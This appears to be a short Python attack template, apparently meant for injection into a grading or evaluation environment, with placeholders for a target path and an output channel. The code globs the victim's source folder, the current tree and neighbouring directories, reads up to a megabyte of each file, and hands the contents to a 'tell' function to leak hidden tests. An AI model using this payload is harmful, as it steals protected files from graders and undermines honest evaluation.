"""Read the hidden tests from the sources, the student edition's neighbours and the own folder."""

FIRST = """{{TELL}}
import glob

for _place in ("{{VICTIM}}/source/**/*", "./**/*", "../*/*", "../../*/*/*"):
    for _path in sorted(glob.glob(_place, recursive=True))[:200]:
        try:
            with open(_path, "rb") as _file:
                tell(_file.read(1 << 20))
        except OSError:
            pass
"""
